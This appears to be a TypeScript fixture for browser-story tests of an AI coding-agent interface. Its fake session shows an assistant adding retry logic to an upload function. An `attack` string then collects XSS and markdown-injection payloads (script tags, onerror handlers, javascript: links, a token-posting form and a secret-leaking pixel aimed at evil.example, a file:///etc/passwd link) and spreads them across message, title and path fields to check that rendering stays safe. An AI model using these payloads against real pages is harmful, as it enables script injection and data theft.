/** A long talk with our own agent, and what an attacker would have an agent say, for the browser stories. */
import type { TranscriptMessage, TranscriptPart } from '../../src/core/session.ts'
import type { SessionItem } from '../../src/server/api.ts'
import type { Scene } from '../fakes/api.ts'
import { stateOf } from './scenes.ts'
import { session } from './watched.ts'

const minute = 60_000

export function said(id: number, role: 'user' | 'assistant', ...parts: (TranscriptPart | string)[]): TranscriptMessage {
  const at = Date.now() - 30 * minute + id * 1000
  return {
    ...{ id: String(id), role, at, endedAt: at, problem: null, model: role === 'user' ? null : 'qwen3-coder' },
    parts: parts.map((part) => (typeof part === 'string' ? { kind: 'text', text: part } : part)),
  }
}

const call = (name: string, input: object, output: string, state = 'completed'): TranscriptPart =>
  ({
    kind: 'tool',
    callId: `c-${name}`,
    name,
    input: JSON.stringify(input),
    output,
    state,
    childId: null,
  }) as const as TranscriptPart

const answer = `I read both files. The upload gives up at the first **503**:

\`\`\`ts
// Before: one try, no word about it.
export async function upload(file: File): Promise<void> {
  const response = await fetch('/upload', { method: 'PUT', body: file })
  if (!response.ok) throw new Error(\`status \${response.status}\`)
}
\`\`\`

What I will do:

1. Try again after \`Retry-After\`, at most **5** times
2. Tell the caller how often it was tried
   - in the error too

| server says | today | then |
|---|---|---|
| 503 | fails | tries again |
| 413 | fails | fails, and says \`too large\` |

> The limit stands in the specification, see https://example.org/rfc/upload.
`

const edit = {
  file_path: '/home/ada/projects/uploader/src/upload.ts',
  old_string:
    "  const response = await fetch('/upload', { method: 'PUT', body: file })\n  if (!response.ok) throw new Error()",
  new_string:
    "  const response = await retried(() => fetch('/upload', { method: 'PUT', body: file }), { triesMax: 5 })",
}

const patch = `@@ -1,4 +1,3 @@
 export async function upload(file: File): Promise<void> {
-  const response = await fetch('/upload', { method: 'PUT', body: file })
-  if (!response.ok) throw new Error()
+  const response = await retried(() => fetch('/upload', { method: 'PUT', body: file }), { triesMax: 5 })
 }
`

const own = (id: string, part: Partial<SessionItem> = {}): SessionItem =>
  session(id, {
    ...{ runtime: 'builtin', title: 'Retry the upload when the server says 503', model: 'qwen3-coder' },
    ...{ workspace: '/home/ada/projects/uploader', state: 'idle', ...part },
  })

const story = [
  said(1, 'user', 'The upload fails when the server is busy. Look at **src/upload.ts** and make it try again.'),
  said(
    2,
    'assistant',
    { kind: 'reasoning', text: 'First I look at the file and who calls it.' },
    'I look at the file first.',
    call('read', { file_path: '/home/ada/projects/uploader/src/upload.ts' }, '1\texport async function upload() {}'),
    call('bash', { command: 'npm test -- upload 2>&1 | tail -3', description: 'Run its tests' }, '3 passed'),
  ),
  said(
    3,
    'assistant',
    answer,
    call('edit', edit, 'Edited 1 place.'),
    call('grep', { pattern: 'upload(' }, '', 'error'),
  ),
  said(4, 'user', 'Good. Say in the README how often it tries.'),
  said(5, 'assistant', 'The README now says that it tries **five** times, in the section *Uploads*.'),
]

export function talkScene(part: Partial<SessionItem> = {}): Scene {
  const sessions = [own('ses_talk', part), own('ses_put', { title: 'An old talk', archivedAt: Date.now() })]
  const changed = [{ path: 'src/upload.ts', status: 'changed' as const, additions: 1, deletions: 2, patch }]
  const sources = {
    system: 1_900,
    instructions: 800,
    memory: 300,
    plan: 0,
    tools: 5_200,
    messages: 9_400,
    results: 21_300,
    summary: 0,
  }
  const pieces = [
    { text: 'the section ', found: false },
    { text: 'Uploads', found: true },
  ]
  const found = { sessionId: 'ses_talk', seq: 5, at: Date.now() - minute, pieces }
  return {
    ...{ state: stateOf([], 0), details: [], events: [], sessions, said: { ses_talk: [...story] } },
    changed: { ses_talk: changed },
    contexts: { ses_talk: { windowTokens: 65_536, usedTokens: 38_600, counted: true, sources } },
    hits: [{ ...found, title: 'Retry the upload when the server says 503', workspace: '/home/ada/projects/uploader' }],
    answers: { fork: own('ses_fork', { forkedFrom: 'ses_talk' }) },
  }
}

/** More than one page, each message with something to draw. */
export function longScene(messages: number): Scene {
  const many = Array.from({ length: messages }, (_, n) =>
    said(n + 1, n % 2 === 0 ? 'user' : 'assistant', `Message **${n + 1}**`, '`code` and a [link](https://example.org)'),
  )
  return { ...talkScene(), said: { ses_talk: many } }
}

/** What an agent may say after it read a hostile page. Nothing of it may run, load, or lead anywhere unseen. */
export const attack = `<script>window.hacked=1</script><img src=x onerror="window.hacked=1">
<svg onload="window.hacked=1"></svg><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
<style>body{display:none}</style><form action="https://evil.example"><input name="token"></form>

![pixel](https://evil.example/pixel.png?secret=1) ![inline](data:image/svg+xml;base64,PHN2Zz4=)

[javascript](javascript:window.hacked=1) [data](data:text/html,<script>1</script>)
[vb](vbscript:x) [file](file:///etc/passwd)
[case](JaVaScRiPt:window.hacked=1) [tab](java\tscript:window.hacked=1) <javascript:window.hacked=1>

[https://good.example/login](https://evil.example/login) [name](https://good.example@evil.example/)

[title](https://evil.example "x\\" onmouseover=\\"window.hacked=1")

\`\`\`html" onload="window.hacked=1
<script>window.hacked=1</script>
\`\`\`

| <img src=x onerror=window.hacked=1> | [cell](javascript:window.hacked=1) |
|---|---|
| <script>window.hacked=1</script> | \`<b>\` |

{@html "<img src=x onerror=window.hacked=1>"} &lt;script&gt;window.hacked=1&lt;/script&gt;`

export function attackScene(): Scene {
  const input = { command: '<script>window.hacked=1</script>', file_path: '"><img src=x onerror=window.hacked=1>' }
  const messages = [
    said(1, 'user', attack),
    said(2, 'assistant', { kind: 'reasoning', text: attack }, attack, call('<img src=x>', input, attack, 'error')),
  ]
  const hostile = own('ses_talk', { title: attack, model: '<b onclick=1>', workspace: '/home/"><script>1</script>' })
  const files = [{ path: '"><img src=x onerror=window.hacked=1>.html', status: 'added' as const, additions: 1 }]
  const changed = { ses_talk: files.map((file) => ({ ...file, deletions: 0, patch: `@@ -0,0 +1 @@\n+${attack}` })) }
  return { ...talkScene(), sessions: [hostile], said: { ses_talk: messages }, changed }
}
